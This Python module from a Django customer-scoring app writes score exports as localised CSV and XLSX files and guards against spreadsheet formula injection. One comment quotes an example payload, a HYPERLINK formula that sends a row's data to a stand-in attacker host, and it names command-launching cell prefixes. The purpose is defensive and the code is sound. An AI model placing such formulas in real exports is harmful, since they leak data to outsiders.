"""The score export: one row per customer with its stored score, as CSV or XLSX.

Both exports are built from the dashboard's frames (``frames_of``): the command
(``score_rows``: every active customer now) and the dashboard's export (``selection_rows``: the
customers in view at the moment shown). ``frame_rows`` is the one row builder; the values are
typed (numbers stay numbers), and ``write_csv`` and ``write_xlsx`` write them as a file for the
reader's spreadsheet program, in the active language:

- headers, band names and display dates in the user's language (``klantbinding.lib.dates``);
- CSV as Excel opens it on a double click: for Dutch a semicolon between fields and a decimal
  comma (what Dutch Excel expects, its list separator being ";"), for English a comma and a
  decimal point; UTF-8 with a byte order mark, without which Excel reads UTF-8 as Windows-1252
  and shows "Ã©" for "é";
- XLSX with a frozen, bold header and an autofilter on every column.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import datetime
from decimal import Decimal
from typing import Any, BinaryIO, TextIO

import numpy as np
import pandas as pd
from django.db.models import QuerySet
from django.utils import timezone, translation
from django.utils.translation import gettext_lazy as _
from django.utils.translation import pgettext_lazy

from klantbinding.lib import dates
from scoring.calculations import band_of, round_half_up
from scoring.conf import rule_params
from scoring.models import Customer, band_label, localised

# The fixed columns, by key, in the file's order; the element values follow them.
COLUMNS = (
    "customer",
    "customer_name",
    "account_manager",
    "sector",
    "annual_revenue",
    "binding_score",
    "band",
    "change",
    "band_change",
    "satisfaction",
    "alternatives",
    "investment",
    "coverage",
    "respondents",
    "nps",
    "last_assessed_at",
)
SCORE_COLUMNS = ("binding_score", "satisfaction", "alternatives", "investment")
HEADERS = {
    "customer": _("Customer id"),
    "customer_name": _("Customer"),
    "account_manager": _("Account manager"),
    "sector": _("Sector"),
    "annual_revenue": _("Annual revenue"),
    "binding_score": _("Binding score"),
    "band": _("Band"),
    "change": pgettext_lazy("a score change", "Change"),
    "band_change": _("Band change"),
    "satisfaction": _("Satisfaction"),
    "alternatives": _("Alternatives"),
    "investment": _("Investment"),
    "coverage": _("Coverage %"),
    "respondents": _("Respondents"),
    "nps": _("NPS"),
    "last_assessed_at": _("Last assessed"),
}
# Excel number formats of the XLSX columns (Excel shows them with the reader's separators).
_NUMBER_FORMATS = {
    **dict.fromkeys(SCORE_COLUMNS, "0.0"),
    "change": "+0.0;-0.0;0.0",
    "annual_revenue": "#,##0.00",
    "nps": "0",
    "element": "0.0",
}
_DATETIME_FORMATS = {"nl": "d-m-yyyy hh:mm", "en": "d mmm yyyy hh:mm"}

Value = str | float | int | Decimal | datetime | None
ScoreRow = dict[str, Value]


@dataclass
class ScoreExport:
    """The rows of an export and the elements whose values they carry (code, name)."""

    rows: list[ScoreRow] = field(default_factory=list)
    elements: list[tuple[str, str]] = field(default_factory=list)

    def __iter__(self) -> Iterator[ScoreRow]:
        return iter(self.rows)

    def __len__(self) -> int:
        return len(self.rows)

    def columns(self) -> list[tuple[str, str]]:
        """Every column as (key, header in the active language); elements keyed by code."""
        fixed = [(key, str(HEADERS[key])) for key in COLUMNS]
        return [*fixed, *((f"element:{code}", name) for code, name in self.elements)]


def _number(value: object) -> float | None:
    """A stored number as a float; None for none (None or NaN)."""
    if value is None or pd.isna(value):
        return None
    return float(value)  # type: ignore[arg-type]


def _tenth(value: object) -> float | None:
    number = _number(value)
    return None if number is None else float(round_half_up(number, 1))


def frame_rows(
    customers: pd.DataFrame,
    element_values: pd.DataFrame,
    elements: pd.DataFrame,
    nps: pd.Series,
) -> ScoreExport:
    """The export of these customers as the dashboard's frames (with the listing columns)
    hold them, in the frame's order: scores to one decimal (None without a score), the change
    since the previous score with the band it came from, coverage an int percent, NPS, and
    each element's stored value."""
    thresholds = rule_params().band_thresholds
    codes = list(elements["code"])
    export = ScoreExport(
        elements=[
            (code, localised(nl, en))
            for code, nl, en in zip(codes, elements["name_nl"], elements["name_en"], strict=True)
        ]
    )
    values = element_values.reindex(index=customers.index, columns=codes).to_numpy(dtype=float)
    nps = nps.reindex(customers.index)
    records = customers.reset_index().to_dict("records")  # far cheaper than iterrows
    for position, record in enumerate(records):
        customer_id = record["customer_id"]
        score = _tenth(record["binding_score"])
        previous = _tenth(record.get("previous_score"))
        band = str(record["band"] or "") if score is not None else ""
        before = band_of(previous, thresholds) if previous is not None else ""
        last = record["last_assessed_at"]
        row: ScoreRow = {
            "customer": record["external_id"],
            "customer_name": record["name"],
            "account_manager": record["account_manager"] or "",
            "sector": record["sector"] or "",
            "annual_revenue": Decimal(str(record["revenue"])).quantize(Decimal("0.01")),
            "binding_score": score,
            "band": band_label(band) if band else "",
            "change": (
                None if score is None or previous is None else float(round(score - previous, 1))
            ),
            "band_change": (
                f"{band_label(before)} → {band_label(band)}"
                if band and before and before != band
                else ""
            ),
            "coverage": int(round_half_up(_number(record["coverage"]) or 0.0, 0)),
            "respondents": int(_number(record["respondents"]) or 0),
            "nps": _number(nps.get(customer_id)),
            "last_assessed_at": (
                None if pd.isna(last) else timezone.localtime(last.to_pydatetime())
            ),
        }
        for column in ("satisfaction", "alternatives", "investment"):
            row[column] = _tenth(record[column])
        if row["nps"] is not None:
            row["nps"] = int(round_half_up(row["nps"], 0))
        for code, value in zip(codes, values[position], strict=True):
            row[f"element:{code}"] = None if np.isnan(value) else float(round_half_up(value, 1))
        export.rows.append(row)
    return export


def score_rows(customers: QuerySet[Customer] | None = None) -> ScoreExport:
    """One row per active customer (by name) with its current stored score."""
    from scoring.selectors.dashboard_frames import frames_of, nps_by_customer

    queryset = customers if customers is not None else Customer.objects.all()
    now = timezone.now()
    data = frames_of(queryset.filter(active=True), moment=now, current=True, listing=True)
    frame = data.customers.sort_values(["name", "external_id"], kind="stable")
    return frame_rows(
        frame, data.element_values, data.elements, nps_by_customer(list(frame.index), now)
    )


def selection_rows(selection: Any) -> ScoreExport:
    """The export of a dashboard selection (``selectors.dashboard_selection``), by name."""
    from scoring.selectors.dashboard_frames import nps_by_customer

    frame = selection.customers.sort_values(["name", "external_id"], kind="stable")
    nps = nps_by_customer(list(frame.index), selection.moment or timezone.now())
    return frame_rows(frame, selection.element_values, selection.elements, nps)


@dataclass(frozen=True)
class CsvDialect:
    """How the reader's Excel splits a CSV line and reads a number."""

    delimiter: str
    decimal: str


def csv_dialect() -> CsvDialect:
    """Dutch: semicolons and a decimal comma (Dutch Excel's list separator is ";", and it
    reads 12.5 as a date or text); every other language: commas and a decimal point."""
    if (translation.get_language() or "").startswith("nl"):
        return CsvDialect(delimiter=";", decimal=",")
    return CsvDialect(delimiter=",", decimal=".")


def csv_value(value: Value, dialect: CsvDialect | None = None) -> str:
    """A value as the CSV export writes it: one decimal for scores, two for amounts, the
    language's decimal mark, the language's short date and time, "" for none."""
    dialect = dialect or csv_dialect()
    if value is None:
        return ""
    if isinstance(value, float):
        return f"{value:.1f}".replace(".", dialect.decimal)
    if isinstance(value, Decimal):
        return f"{value:.2f}".replace(".", dialect.decimal)
    if isinstance(value, datetime):
        return dates.moment(value)
    return str(value)


# Formula injection: a spreadsheet program runs a cell that starts with one of these as a
# formula (=HYPERLINK("https://evil.example/?d="&C2) sends the row away, +cmd|... starts a
# program). Text from users (names above all) is written so that it stays text: in CSV with a
# leading apostrophe (OWASP's advice: Excel and LibreOffice show the text, not a formula), in
# XLSX as a text cell (openpyxl would store it as a formula).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def formula_safe(value: object, text: str) -> str:
    """``text``, the CSV form of ``value``, with an apostrophe before it when ``value`` is
    text that a spreadsheet would run as a formula (numbers, e.g. -1.5, stay as they are)."""
    if isinstance(value, str) and text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


def text_cell(sheet: Any, value: object) -> Any:
    """An XLSX cell of ``value``; text that looks like a formula stays text."""
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, value=value)
    if isinstance(value, str) and cell.data_type == "f":
        cell.data_type = "s"
    return cell


def write_csv(export: ScoreExport, stream: TextIO) -> None:
    """Write the export as CSV for the active language's Excel (see the module docstring),
    starting with the UTF-8 byte order mark."""
    dialect = csv_dialect()
    columns = export.columns()
    stream.write("\ufeff")
    writer = csv.writer(stream, delimiter=dialect.delimiter, lineterminator="\r\n")
    writer.writerow([formula_safe(header, header) for _key, header in columns])
    for row in export.rows:
        writer.writerow(
            [formula_safe(row.get(key), csv_value(row.get(key), dialect)) for key, _h in columns]
        )


def write_xlsx(export: ScoreExport, stream: BinaryIO) -> None:
    """Write the export as an Excel workbook: numbers stay numbers, times are local times, the
    header is frozen and every column has a filter."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    columns = export.columns()
    language = (translation.get_language() or "nl")[:2]
    moment_format = _DATETIME_FORMATS.get(language, _DATETIME_FORMATS["en"])
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(str(_("scores")))
    sheet.freeze_panes = "A2"
    last = get_column_letter(max(len(columns), 1))
    sheet.auto_filter.ref = f"A1:{last}{len(export.rows) + 1}"
    for number, (key, header) in enumerate(columns, start=1):
        width = 30 if key == "customer_name" else max(10, min(len(header) + 4, 30))
        sheet.column_dimensions[get_column_letter(number)].width = width
    bold = Font(bold=True)
    header_cells = []
    for _key, header in columns:
        cell = text_cell(sheet, header)
        cell.font = bold
        header_cells.append(cell)
    sheet.append(header_cells)
    for row in export.rows:
        cells = []
        for key, _header in columns:
            value = row.get(key)
            if isinstance(value, datetime):
                # Excel has no time zones (local time) and keeps milliseconds: as in the CSV.
                value = value.replace(tzinfo=None, microsecond=0)
            cell = text_cell(sheet, value) if value is not None else WriteOnlyCell(sheet)
            if key == "last_assessed_at":
                cell.number_format = moment_format
            elif key.startswith("element:"):
                cell.number_format = _NUMBER_FORMATS["element"]
            elif key in _NUMBER_FORMATS:
                cell.number_format = _NUMBER_FORMATS[key]
            cells.append(cell)
        sheet.append(cells)
    # Save to memory first: zip files want a seekable stream and stdout is not one.
    buffer = io.BytesIO()
    workbook.save(buffer)
    stream.write(buffer.getvalue())


CONTENT_TYPES = {
    "csv": "text/csv; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}


def export_bytes(export: ScoreExport, file_format: str) -> bytes:
    """The export as the bytes of a CSV (UTF-8 with BOM) or XLSX file; ``file_format`` is a
    key of CONTENT_TYPES."""
    if file_format == "csv":
        text = io.StringIO(newline="")
        write_csv(export, text)
        return text.getvalue().encode("utf-8")
    data = io.BytesIO()
    write_xlsx(export, data)
    return data.getvalue()
